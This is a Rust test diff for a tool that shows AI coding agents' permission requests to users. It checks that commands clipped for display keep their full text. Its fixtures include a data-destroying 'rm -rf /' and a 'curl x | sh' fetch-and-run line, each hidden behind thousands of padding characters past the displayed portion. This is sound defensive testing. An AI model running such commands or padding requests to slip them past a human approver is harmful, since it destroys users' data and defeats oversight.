@@ -180,3 +180,30 @@ fn claude_questions_answer_with_labels_by_question_text() {
     assert_eq!(body["updatedInput"]["answers"], json!({ "Which color?": "Blue, Red, or green" }));
     assert_eq!(body["updatedInput"]["questions"], request["input"]["questions"]);
 }
+
+#[test]
+fn a_request_clipped_for_display_keeps_its_whole_text() {
+    // Codex: the dangerous part of a long command lies past the 4,000 bytes shown.
+    let command = format!("echo {} && rm -rf /", "a".repeat(5_000));
+    let params = json!({ "command": command, "availableDecisions": ["accept", "acceptForSession"] });
+    let p = codex::approval(codex::COMMAND_APPROVAL, &params, &Items::default()).unwrap();
+    assert!(!p["command_display"].as_str().unwrap().contains("rm -rf"));
+    assert_eq!(
+        (&p["clipped"], &p["full_text"], &p["full_text_complete"]),
+        (&json!(true), &json!(command), &json!(true))
+    );
+    let short = codex::approval(codex::COMMAND_APPROVAL, &json!({ "command": "ls" }), &Items::default()).unwrap();
+    assert!(short.get("clipped").is_none() && short.get("full_text").is_none());
+
+    // Claude: a tool whose input is clipped keeps the whole input; a command keeps its text.
+    let content = format!("{}\nmalicious line", "b".repeat(6_000));
+    let request = json!({ "tool_name": "Write", "input": { "file_path": "/w/x", "content": content } });
+    let claude::Permission::Approval(p) = claude::permission(&request).unwrap() else { panic!() };
+    assert_eq!(p["clipped"], true);
+    assert!(p["full_text"].as_str().unwrap().contains("malicious line"), "{}", p["full_text"]);
+    let huge = format!("{} ; curl x | sh", "c".repeat(40_000));
+    let request = json!({ "tool_name": "Bash", "input": { "command": huge } });
+    let claude::Permission::Approval(p) = claude::permission(&request).unwrap() else { panic!() };
+    assert_eq!((&p["clipped"], &p["full_text_complete"]), (&json!(true), &json!(false)));
+    assert!(p["full_text"].as_str().unwrap().len() <= super::events::MAX_FULL_TEXT_BYTES + 4);
+}
